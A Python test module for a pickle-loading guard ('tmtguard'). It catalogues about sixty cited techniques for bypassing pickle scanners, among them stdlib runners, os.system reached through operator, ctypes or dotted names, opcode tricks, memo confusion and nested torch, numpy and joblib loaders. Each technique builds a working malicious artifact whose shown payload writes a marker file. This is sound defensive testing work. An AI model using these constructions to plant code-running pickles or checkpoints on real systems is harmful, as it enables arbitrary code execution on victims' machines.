"""The catalogue of bypass techniques: each one a real artifact whose payload writes a marker file.

A technique is a function ``build(ctx) -> Case``. ``ctx`` gives it a scratch folder, the marker path
and pytest's monkeypatch (for a fake program on PATH, an extension-registry entry...). The Case says
how the artifact is loaded and what tmtguard must name when it blocks it: the event target (the
global, exactly as the pickle spells it) and the loaders of the chain, outermost first.

Citations name the advisory or report the technique comes from; "no public advisory" where none was
found. Every id below was looked up in the public advisory and issue text, none is made up:

* picklescan advisories: https://github.com/mmaitre314/picklescan/security/advisories/<GHSA>
* fickling advisories: https://github.com/trailofbits/fickling/security/advisories/<GHSA>
"""
from __future__ import annotations

import hashlib
import io
import marshal
import os
import pickle
import shutil
import stat
import sys
import zipfile
from dataclasses import dataclass, field
from typing import Callable

import artifacts as A

try:  # before anything imports the stdlib's distutils (pip does): setuptools then owns "distutils" for good
    import setuptools  # noqa: F401
except ImportError:  # pragma: no cover
    pass


@dataclass
class Case:
    load: Callable[[], object]           # performs the load the application would do
    target: str                          # the event target tmtguard must name
    loaders: tuple = ("pickle.load",)    # the chain's loaders, outermost first
    action: str = "pickle.global"
    allowlist: str | None = None         # YAML the guard runs with (a scoped rule for an outer artifact)
    artifact: str | None = None          # the outermost artifact's path, when it is a file
    wait_for_marker: float = 0.0         # the payload runs in a child process that may outlive the load


@dataclass
class Technique:
    id: str
    cite: str
    build: Callable[["Ctx"], Case]
    note: str = ""


@dataclass
class Ctx:
    tmp: object          # pathlib.Path
    marker: object       # pathlib.Path
    monkeypatch: object
    cleanups: list = field(default_factory=list)

    @property
    def m(self) -> str:
        return str(self.marker)

    @property
    def py(self) -> str:
        return A.py_marker(self.m)

    @property
    def sh(self) -> str:
        return A.sh_marker(self.m)

    def file_case(self, name: str, data: bytes, target: str, **kw) -> Case:
        """The artifact as a file, opened and unpickled the way applications do."""
        path = self.tmp / f"{name}.pkl"
        path.write_bytes(data)

        def load():
            with open(path, "rb") as fh:
                return pickle.load(fh)

        return Case(load=load, target=target, artifact=str(path), **kw)

    def fake_program(self, name: str) -> str:
        """An executable called ``name`` that writes the marker, first on PATH (a platform helper that
        shells out to a fixed program name runs it)."""
        folder = self.tmp / "bin"
        folder.mkdir(exist_ok=True)
        prog = folder / name
        prog.write_text(f"#!/bin/sh\necho pwned > {self.m}\n")
        prog.chmod(prog.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
        self.monkeypatch.setenv("PATH", f"{folder}{os.pathsep}{os.environ.get('PATH', '')}")
        return str(prog)


def first(op_first: A.Op, then: A.Op, index: int = 900) -> A.Op:
    """Evaluate ``op_first`` (memo[index]) before anything else, drop it, then ``then``: lets the
    technique's own global come first in the stream whatever order the call needs."""
    return A.raw(A.memoize(op_first, index).code + b"0" + then.code)


def scoped(outer: bytes, entry: str) -> str:
    """An allowlist that lets only this outer artifact (by digest) name ``entry``: the nested load it
    performs must then be decided on its own."""
    digest = hashlib.sha256(outer).hexdigest()
    return f"version: 1\nartifacts:\n  - match: {{sha256: {digest}}}\n    pickle:\n      allow: [\"{entry}\"]\n"


def G(module: str, name: str) -> A.Op:
    return A.glob(module, name)


def C(fn, *args) -> A.Op:
    return A.call(fn, *args)


def dump(op: A.Op) -> bytes:
    return A.dumps(op)


# --- code-running stdlib functions outside the usual denylists ----------------------------------


def pip_main(ctx):
    # pip's --log opens its log file (the marker) before doing anything: a real pip run.
    import logging

    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level

    def restore_logging():  # pip configures the root logger (and keeps its --log file open)
        for h in root.handlers[:]:
            if h not in handlers:
                root.removeHandler(h)
                h.close()
        root.setLevel(level)

    ctx.cleanups.append(restore_logging)
    data = dump(C(G("pip", "main"), A.lst("--log", ctx.m, "--disable-pip-version-check", "cache", "dir")))
    return ctx.file_case("pip_main", data, "pip:main")


def pydoc_pipepager(ctx):
    return ctx.file_case("pipepager", dump(C(G("pydoc", "pipepager"), "pwned", f"cat > {ctx.m}")), "pydoc:pipepager")


def cprofile_run(ctx):
    return ctx.file_case("cprofile", dump(C(G("cProfile", "run"), ctx.py)), "cProfile:run")


def profile_run(ctx):
    data = dump(C(G("profile", "Profile.run"), C(G("profile", "Profile")), ctx.py))
    return ctx.file_case("profile", data, "profile:Profile.run")


def trace_run(ctx):
    data = dump(C(G("trace", "Trace.run"), C(G("trace", "Trace"), 0, 0), ctx.py))
    return ctx.file_case("trace", data, "trace:Trace.run")


def bdb_run(ctx):
    data = dump(C(G("bdb", "Bdb.run"), C(G("bdb", "Bdb")), ctx.py))
    return ctx.file_case("bdb", data, "bdb:Bdb.run")


def code_interpreter(ctx):
    data = dump(C(G("code", "InteractiveInterpreter.runsource"), C(G("code", "InteractiveInterpreter")), ctx.py))
    return ctx.file_case("code", data, "code:InteractiveInterpreter.runsource")


def timeit_timer(ctx):
    data = dump(C(G("timeit", "Timer.timeit"), C(G("timeit", "Timer"), ctx.py), 1))
    return ctx.file_case("timeit", data, "timeit:Timer.timeit")


def doctest_examples(ctx):
    # A docstring is any string: run_docstring_examples runs the examples in it.
    data = dump(C(G("doctest", "run_docstring_examples"), f">>> _ = {ctx.py}\n", A.val_dict({})))
    return ctx.file_case("doctest", data, "doctest:run_docstring_examples")


def idlelib_calltip(ctx):
    return ctx.file_case("idlelib", dump(C(G("idlelib.calltip", "get_entity"), ctx.py)), "idlelib.calltip:get_entity")


def lib2to3_grammar(ctx):
    inner = A.marker_pickle(ctx.m)
    data = dump(C(G("lib2to3.pgen2.grammar", "Grammar.loads"), C(G("lib2to3.pgen2.grammar", "Grammar")), inner))
    return ctx.file_case("lib2to3", data, "lib2to3.pgen2.grammar:Grammar.loads")


def distutils_write_file(ctx):
    # Python 3.11's own distutils, once imported, makes setuptools' distutils hack refuse to load
    # (torch.utils.cpp_extension imports setuptools): leave sys.modules as it was.
    before = set(sys.modules)
    ctx.cleanups.append(lambda: [sys.modules.pop(n) for n in list(sys.modules)
                                 if n not in before and (n == "distutils" or n.startswith("distutils."))])
    data = dump(C(G("distutils.file_util", "write_file"), ctx.m, A.lst("pwned")))
    return ctx.file_case("distutils", data, "distutils.file_util:write_file")


def mailcap_findmatch(ctx):
    caps = A.val_dict({"text/plain": A.lst(A.val_dict({"view": "cat", "test": ctx.sh}))})
    return ctx.file_case("mailcap", dump(C(G("mailcap", "findmatch"), caps, "text/plain")), "mailcap:findmatch")


def platform_syscmd_file(ctx):
    ctx.fake_program("file")  # platform runs the program named ``file`` it finds on PATH
    data = dump(C(G("platform", "_syscmd_file"), sys.executable, ""))
    return ctx.file_case("platform", data, "platform:_syscmd_file")


def uuid_command(ctx):
    data = dump(C(G("uuid", "_get_command_stdout"), "sh", "-c", ctx.sh))
    return ctx.file_case("uuid", data, "uuid:_get_command_stdout")


def ensurepip_run_pip(ctx):
    # _run_pip formats ``args`` into the source of a child interpreter: a string is code.
    data = dump(C(G("ensurepip", "_run_pip"), f"[]; {ctx.py}; raise SystemExit(0) #"))
    return ctx.file_case("ensurepip", data, "ensurepip:_run_pip")


def spawnv_passfds(ctx):
    # _posixsubprocess.fork_exec underneath raises no audit event.
    data = dump(C(G("multiprocessing.util", "spawnv_passfds"), b"/bin/sh", A.lst(b"sh", b"-c", ctx.sh.encode()), ()))

    case = ctx.file_case("spawnv", data, "multiprocessing.util:spawnv_passfds", wait_for_marker=10)
    load = case.load

    def load_and_reap():
        pid = load()
        if isinstance(pid, int):
            os.waitpid(pid, 0)
        return pid

    case.load = load_and_reap
    return case


def subinterpreter(ctx):
    # A sub-interpreter's actions are invisible to the main interpreter's audit hooks.
    import _xxsubinterpreters

    def destroy_all():
        main = _xxsubinterpreters.get_main()
        for interp in _xxsubinterpreters.list_all():
            if interp != main:
                try:
                    _xxsubinterpreters.destroy(interp)
                except Exception:
                    pass

    ctx.cleanups.append(destroy_all)
    data = dump(first(C(G("_xxsubinterpreters", "create")), C(G("_xxsubinterpreters", "run_string"), A.memo_get(900), ctx.py)))
    return ctx.file_case("subinterp", data, "_xxsubinterpreters:create")


def runpy_run_code(ctx):
    return ctx.file_case("runpy", dump(C(G("runpy", "_run_code"), ctx.py, A.val_dict({}))), "runpy:_run_code")


# --- indirection: getattr / __import__ / importlib / pkgutil / operator chains ---------------------


def pydoc_locate_methodcaller(ctx):
    os_module = C(G("pydoc", "locate"), "os")
    data = dump(first(os_module, C(C(G("operator", "methodcaller"), "system", ctx.sh), A.memo_get(900))))
    return ctx.file_case("locate", data, "pydoc:locate")


def c_operator_methodcaller(ctx):
    # The C module's own name: denylists that knew "operator" did not know "_operator".
    data = dump(C(C(G("_operator", "methodcaller"), "system", ctx.sh), C(G("builtins", "__import__"), "os")))
    return ctx.file_case("c_methodcaller", data, "_operator:methodcaller")


def c_operator_attrgetter(ctx):
    data = dump(C(C(C(G("_operator", "attrgetter"), "system"), C(G("builtins", "__import__"), "os")), ctx.sh))
    return ctx.file_case("c_attrgetter", data, "_operator:attrgetter")


def importlib_getattr(ctx):
    os_module = C(G("importlib", "import_module"), "os")
    data = dump(first(os_module, C(C(G("builtins", "getattr"), A.memo_get(900), "system"), ctx.sh)))
    return ctx.file_case("importlib", data, "importlib:import_module")


def pkgutil_resolve_name(ctx):
    return ctx.file_case("pkgutil", dump(C(C(G("pkgutil", "resolve_name"), "os:system"), ctx.sh)), "pkgutil:resolve_name")


# --- dotted STACK_GLOBAL names and allowlisted-looking namespaces ---------------------------------


def dotted_through_allowlisted_module(ctx):
    # uuid:UUID is in the built-in allowlist; uuid's own ``os`` leads to os.system.
    return ctx.file_case("dotted_uuid", dump(C(G("uuid", "os.system"), ctx.sh)), "uuid:os.system")


def dotted_through_torch(ctx):
    data = dump(C(G("torch", "serialization.os.system"), ctx.sh))
    return ctx.file_case("dotted_torch", data, "torch:serialization.os.system")


def numpy_runstring(ctx):
    data = dump(C(G("numpy.testing._private.utils", "runstring"), ctx.py, A.val_dict({})))
    return ctx.file_case("runstring", data, "numpy.testing._private.utils:runstring")


def numpy_f2py_getlincoef(ctx):
    data = dump(C(G("numpy.f2py.crackfortran", "getlincoef"), ctx.py, ()))
    return ctx.file_case("getlincoef", data, "numpy.f2py.crackfortran:getlincoef")


def numpy_builtins_attribute(ctx):
    # modelscan's bypass: ("numpy", "__builtins__") is numpy's builtins dict, reached as a "numpy" global.
    data = dump(C(C(G("numpy", "__builtins__.get"), "exec"), ctx.py))
    return ctx.file_case("numpy_builtins", data, "numpy:__builtins__.get")


def torch_execwrapper(ctx):
    data = dump(C(G("torch.jit.unsupported_tensor_ops", "execWrapper"), ctx.py, A.val_dict({}), A.val_dict({})))
    return ctx.file_case("execwrapper", data, "torch.jit.unsupported_tensor_ops:execWrapper")


def torch_collect_env_run(ctx):
    return ctx.file_case("collect_env", dump(C(G("torch.utils.collect_env", "run"), ctx.sh)), "torch.utils.collect_env:run")


def torch_cpp_extension_compiler(ctx):
    # torch's build helper runs the compiler it is named (``<compiler> -v``) to learn what it is.
    ctx.fake_program("evilcc")
    data = dump(C(G("torch.utils.cpp_extension", "check_compiler_ok_for_platform"), "evilcc"))
    return ctx.file_case("cpp_extension", data, "torch.utils.cpp_extension:check_compiler_ok_for_platform")


def torch_inductor_codecache(ctx):
    # Inductor writes generated source to its cache folder and imports it: the source is the payload.
    ctx.monkeypatch.setenv("TORCHINDUCTOR_CACHE_DIR", str(ctx.tmp / "inductor"))
    data = dump(C(G("torch._inductor.codecache", "PyCodeCache.load"), ctx.py + "\n"))
    return ctx.file_case("inductor", data, "torch._inductor.codecache:PyCodeCache.load")


def torch_fx_exec_with_source(ctx):
    # torch.fx may generate code (code.allow built-in): its exec helper named by a pickle must not pass.
    data = dump(C(G("torch.fx.graph_module", "_exec_with_source"), ctx.py, A.val_dict({})))
    return ctx.file_case("fx_exec", data, "torch.fx.graph_module:_exec_with_source")


def torch_datapipes_decoder(ctx):
    inner = A.marker_pickle(ctx.m)
    data = dump(C(G("torch.utils.data.datapipes.utils.decoder", "basichandlers"), "pickle", inner))
    return ctx.file_case("decoder", data, "torch.utils.data.datapipes.utils.decoder:basichandlers")


# --- marshal + FunctionType, ctypes ----------------------------------------------------------------


def marshal_function(ctx):
    code = compile(ctx.py, "<payload>", "exec")
    # types.FunctionType(marshal.loads(code), {})(): marshal:loads comes first in the stream
    data = dump(first(C(G("marshal", "loads"), marshal.dumps(code)),
                      C(C(G("types", "FunctionType"), A.memo_get(900), A.val_dict({})))))
    return ctx.file_case("marshal", data, "marshal:loads")


def ctypes_pyrun(ctx):
    data = dump(C(G("ctypes", "pythonapi.PyRun_SimpleString"), ctx.py.encode()))
    return ctx.file_case("ctypes_pyrun", data, "ctypes:pythonapi.PyRun_SimpleString")


def ctypes_cdll_system(ctx):
    libc = C(G("ctypes", "CDLL"), None)
    data = dump(first(libc, C(C(G("builtins", "getattr"), A.memo_get(900), "system"), ctx.sh.encode())))
    return ctx.file_case("ctypes_cdll", data, "ctypes:CDLL")


# --- opcodes other than GLOBAL + REDUCE ------------------------------------------------------------


def inst_opcode(ctx):
    return ctx.file_case("inst", A.dumps_protocol(A.inst("posix", "system", ctx.sh), 0)[2:], "posix:system")


def obj_opcode(ctx):
    data = A.dumps_protocol(A.obj(A.global_op("subprocess", "check_call"), A.lst("sh", "-c", ctx.sh)), 1)[2:]
    return ctx.file_case("obj", data, "subprocess:check_call")


def newobj_partial(ctx):
    partial = A.newobj(G("functools", "partial"), G("posix", "system"), ctx.sh)
    return ctx.file_case("newobj", dump(C(partial)), "functools:partial")


def newobj_ex_partial(ctx):
    partial = A.newobj_ex(G("functools", "partial"), (G("posix", "system"),), {"command": ctx.sh})
    return ctx.file_case("newobj_ex", dump(C(partial)), "functools:partial")


def ext_opcodes(code):
    def build(ctx):
        import copyreg

        # The application registered an extension code (copyreg's registry is process-wide state).
        copyreg.add_extension("posix", "system", code)
        ctx.cleanups.append(lambda: copyreg.remove_extension("posix", "system", code))
        data = dump(A.raw(A.ext(code).code + A.val((ctx.sh,)).code + b"R"))
        return ctx.file_case(f"ext{code}", data, "posix:system")

    return build


def memo_confusion(ctx):
    # Scanner confusion: PUT the dangerous names, MEMOIZE harmless ones (MEMOIZE stores at len(memo),
    # PUT at any index), STACK_GLOBAL from the memo, and call the memoized callable twice via BINGET.
    code = (A.memoize(A.val("posix"), 10).code + b"0" + A.memoize(A.val("system"), 11).code + b"0"
            + A.val("torch._utils").code + b"\x94" + A.val("_rebuild_tensor_v2").code + b"\x94" + b"00"
            + A.memo_get(10).code + A.memo_get(11).code + b"\x93" + A.memoize(A.raw(b""), 12).code + b"0"
            + A.memo_get(12).code + A.val((ctx.sh,)).code + b"R0"
            + A.memo_get(12).code + A.val((ctx.sh,)).code + b"R")
    return ctx.file_case("memo", dump(A.raw(code)), "posix:system")


def build_setstate_injection(ctx):
    # BUILD puts __setstate__ into an allowlisted object's __dict__; the next BUILD calls it.
    ns = A.build(C(G("argparse", "Namespace")), A.val_dict({"__setstate__": G("posix", "system")}))
    return ctx.file_case("setstate", dump(A.build(ns, ctx.sh)), "posix:system")


def python2_compat_name(ctx):
    # Protocol < 3: the unpickler maps Python 2 names (commands -> subprocess) after the audit event.
    data = A.dumps_protocol(A.raw(A.global_op("commands", "getoutput").code + A.val((ctx.sh,)).code + b"R"), 2)
    return ctx.file_case("compat", data, "commands:getoutput")


def persistent_id_in_checkpoint(ctx):
    """A real torch zip checkpoint whose data.pkl calls the payload while building a persistent id."""
    import torch

    path = ctx.tmp / "persid.pt"
    torch.save({"w": torch.zeros(2)}, path)
    pid = A.val(("storage", C(G("posix", "system"), ctx.sh), "0", "cpu", 2))
    data = A.dumps_protocol(A.persid(pid), 2)
    _replace_data_pkl(path, data)
    return Case(load=lambda: torch.load(path, weights_only=False), target="posix:system",
                loaders=("torch.load",), artifact=str(path))


def _replace_data_pkl(path, data: bytes) -> None:
    src = zipfile.ZipFile(path)
    entries = [(info, src.read(info.filename)) for info in src.infolist()]
    src.close()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as out:
        for info, body in entries:
            out.writestr(info, data if info.filename.endswith("/data.pkl") else body)


# --- modules whose import is the payload ------------------------------------------------------------


def antigravity_import(ctx):
    """A stdlib module whose import opens a web browser: $BROWSER is the payload."""
    import webbrowser

    prog = ctx.fake_program("browser")
    ctx.monkeypatch.setenv("BROWSER", prog)
    ctx.monkeypatch.setattr(webbrowser, "_tryorder", None)
    ctx.monkeypatch.setattr(webbrowser, "_browsers", {})
    ctx.monkeypatch.delitem(sys.modules, "antigravity", raising=False)
    return ctx.file_case("antigravity", dump(C(G("antigravity", "geohash"))), "antigravity:geohash")


def torch_package_module(ctx):
    """A torch.package archive whose pickle names a module packaged inside it: importing it runs it."""
    from torch.package import PackageExporter, PackageImporter

    path = ctx.tmp / "model.pt"
    with PackageExporter(str(path)) as exporter:
        exporter.save_source_string("evil_payload", f"{ctx.py}\nclass Net:\n    pass\n")
        exporter.save_binary("res", "model.pkl", dump(A.newobj(G("evil_payload", "Net"))))

    def load():
        return PackageImporter(str(path)).load_pickle("res", "model.pkl")

    return Case(load=load, target="evil_payload:Net", loaders=("torch.package",), artifact=str(path))


# --- nested loaders: the outer artifact is allowed (scoped) to load another; the inner is decided ---


def _nested(ctx, name, entry, outer_op, inner_loader):
    outer = dump(A.val_dict({"weights": [1, 2], "head": outer_op}))
    case = ctx.file_case(name, outer, "posix:system", loaders=("pickle.load", inner_loader))
    case.allowlist = scoped(outer, entry)
    return case


def nested_py_loads(ctx):
    return _nested(ctx, "nested_py", "pickle:_loads", C(G("pickle", "_loads"), A.marker_pickle(ctx.m)), "pickle._loads")


def nested_c_loads(ctx):
    return _nested(ctx, "nested_c", "_pickle:loads", C(G("_pickle", "loads"), A.marker_pickle(ctx.m)), "pickle.loads")


def nested_cloudpickle(ctx):
    return _nested(ctx, "nested_cloud", "cloudpickle:loads", C(G("cloudpickle", "loads"), A.marker_pickle(ctx.m)),
                   "pickle.loads")


def nested_numpy_load(ctx):
    import numpy as np

    inner = ctx.tmp / "inner.npy"
    np.save(inner, np.array([A.system_payload(ctx.m)], dtype=object), allow_pickle=True)
    return _nested(ctx, "nested_np", "numpy:load", C(G("numpy", "load"), str(inner), None, True), "numpy.load")


def nested_joblib_load(ctx):
    import joblib

    inner = ctx.tmp / "inner.joblib"
    joblib.dump({"model": A.system_payload(ctx.m)}, inner)
    return _nested(ctx, "nested_joblib", "joblib:load", C(G("joblib", "load"), str(inner)), "joblib.load")


def nested_torch_load_from_bytes(ctx):
    # torch.storage:_load_from_bytes is in the built-in allowlist (how torch pickles storages): no
    # scoped rule needed, the inner checkpoint is decided on its own.
    inner = A.torch_bytes({"w": A.system_payload(ctx.m)})
    outer = dump(A.val_dict({"weights": [1], "storage": C(G("torch.storage", "_load_from_bytes"), inner)}))
    return ctx.file_case("from_bytes", outer, "posix:system", loaders=("pickle.load", "torch.load"))


TECHNIQUES = [
    Technique("pip-main", "CVE-2025-1716 (picklescan < 0.0.21 did not treat pip as unsafe)", pip_main),
    Technique("pydoc-pipepager", "no public advisory (in picklescan's malicious test corpus)", pydoc_pipepager),
    Technique("cprofile-run", "GHSA-49gj-c84q-6qm9 (picklescan); GHSA-p523-jq9w-64x9 (fickling)", cprofile_run),
    Technique("profile-Profile.run", "GHSA-x696-vm39-cp64 (picklescan)", profile_run),
    Technique("trace-Trace.run", "GHSA-5qwp-399c-mjwf (picklescan)", trace_run),
    Technique("bdb-Bdb.run", "no public advisory (picklescan PR #29, 'Mark debugger modules as unsafe')", bdb_run),
    Technique("code-InteractiveInterpreter", "GHSA-cj3c-v495-4xqh (picklescan); GHSA-q5qq-mvfm-j35x (fickling)",
              code_interpreter),
    Technique("timeit-Timer", "GHSA-v7x6-rv5q-mhwc (picklescan, timeit.timeit)", timeit_timer),
    Technique("doctest-examples", "doctest family: GHSA-fqq6-7vqf-w3fg (picklescan, doctest.debug_script)",
              doctest_examples),
    Technique("idlelib-calltip", "GHSA-9xph-j2h6-g47v (picklescan)", idlelib_calltip),
    Technique("lib2to3-Grammar.loads", "GHSA-f54q-57x4-jg88 (picklescan)", lib2to3_grammar),
    Technique("distutils-write_file", "GHSA-m273-6v24-x4m4 (picklescan)", distutils_write_file),
    Technique("mailcap-findmatch", "no public advisory (modelscan PR #346, picklescan PR #69)", mailcap_findmatch),
    Technique("platform-_syscmd_file", "no public advisory", platform_syscmd_file),
    Technique("uuid-_get_command_stdout", "no public advisory", uuid_command),
    Technique("ensurepip-_run_pip", "GHSA-xp4f-hrf8-rxw7 (picklescan)", ensurepip_run_pip),
    Technique("multiprocessing-spawnv_passfds", "GHSA-q5qq-mvfm-j35x (fickling)", spawnv_passfds),
    Technique("subinterpreter-run_string", "GHSA-6ggj-6f2q-f7mx (fickling)", subinterpreter),
    Technique("runpy-_run_code", "no public advisory id (picklescan test malicious14); runpy.run_path: "
              "GHSA-wfq2-52f7-7qvj (fickling)", runpy_run_code),
    Technique("pydoc-locate+methodcaller", "GHSA-84r2-jw7c-4r5q (picklescan)", pydoc_locate_methodcaller),
    Technique("_operator-methodcaller", "GHSA-955r-x9j8-7rhh (picklescan)", c_operator_methodcaller),
    Technique("_operator-attrgetter", "GHSA-46h3-79wf-xr6c (picklescan)", c_operator_attrgetter),
    Technique("importlib+getattr", "GHSA-q5qq-mvfm-j35x (fickling)", importlib_getattr),
    Technique("pkgutil-resolve_name", "GHSA-vvpj-8cmc-gx39 (picklescan)", pkgutil_resolve_name),
    Technique("dotted-uuid.os.system", "GHSA-q5qq-mvfm-j35x (fickling: full dotted names vs top-level packages)",
              dotted_through_allowlisted_module),
    Technique("dotted-torch.serialization.os.system", "GHSA-q5qq-mvfm-j35x (fickling)", dotted_through_torch),
    Technique("numpy-runstring", "no public advisory id (picklescan test malicious22)", numpy_runstring),
    Technique("numpy-f2py-getlincoef", "GHSA-r8g5-cgf2-4m4m (picklescan)", numpy_f2py_getlincoef),
    Technique("numpy-__builtins__", "no public advisory (modelscan issue #330)", numpy_builtins_attribute),
    Technique("torch-execWrapper", "GHSA-vr7h-p6mm-wpmh (picklescan)", torch_execwrapper),
    Technique("torch-collect_env.run", "GHSA-f745-w6jp-hpxx (picklescan)", torch_collect_env_run),
    Technique("torch-cpp_extension-compiler", "no public advisory", torch_cpp_extension_compiler),
    Technique("torch-_inductor-PyCodeCache.load", "no public advisory (picklescan's malicious test corpus has "
              "torch._inductor.codecache.compile_file)", torch_inductor_codecache),
    Technique("torch-fx-_exec_with_source", "no public advisory", torch_fx_exec_with_source),
    Technique("torch-datapipes-basichandlers", "GHSA-h3qp-7fh3-f8h4 (picklescan)", torch_datapipes_decoder),
    Technique("marshal+FunctionType", "GHSA-565g-hwwr-4pp3 (fickling)", marshal_function),
    Technique("ctypes-pythonapi", "GHSA-4675-36f9-wf6r / CVE-2025-71323 (picklescan)", ctypes_pyrun),
    Technique("ctypes-CDLL", "GHSA-5hvc-6wx8-mvv4 (fickling); GHSA-4675-36f9-wf6r (picklescan)", ctypes_cdll_system),
    Technique("INST", "no public advisory (picklescan issue #13)", inst_opcode),
    Technique("OBJ", "no public advisory (fickling PR #108: OBJ with pty.spawn; GHSA-r7v6-mfhq-g3m2)", obj_opcode),
    Technique("NEWOBJ-partial", "no public advisory (fickling PR #210: functools.partial wrapper)", newobj_partial),
    Technique("NEWOBJ_EX-partial", "no public advisory", newobj_ex_partial),
    Technique("EXT1", "no public advisory (modelaudit PR #623: EXT opcode bypass)", ext_opcodes(0xF1)),
    Technique("EXT2", "no public advisory (modelaudit PR #623)", ext_opcodes(0xF00F)),
    Technique("EXT4", "no public advisory (modelaudit PR #623)", ext_opcodes(0x7F00F00F)),
    Technique("memo-PUT/MEMOIZE-confusion", "no public advisory (picklescan issues #14, #22)", memo_confusion),
    Technique("BUILD-__setstate__-injection", "GHSA-6ggj-6f2q-f7mx (fickling: PoC routed through BUILD/__setstate__)",
              build_setstate_injection),
    Technique("python2-compat-name", "no public advisory", python2_compat_name),
    Technique("persistent-id-in-checkpoint", "no public advisory", persistent_id_in_checkpoint),
    Technique("import-payload-antigravity", "no public advisory", antigravity_import),
    Technique("import-payload-torch.package", "no public advisory", torch_package_module),
    Technique("nested-pickle._loads", "no public advisory id (picklescan PR #25, 'Mark pickle module as dangerous')",
              nested_py_loads),
    Technique("nested-_pickle.loads", "no public advisory (picklescan PR #25)", nested_c_loads),
    Technique("nested-cloudpickle.loads", "no public advisory (dill is not installed here: cloudpickle stands in)",
              nested_cloudpickle),
    Technique("nested-numpy.load", "no public advisory", nested_numpy_load),
    Technique("nested-joblib.load", "no public advisory", nested_joblib_load),
    Technique("nested-torch._load_from_bytes", "no public advisory (allowlisted by default)",
              nested_torch_load_from_bytes),
]
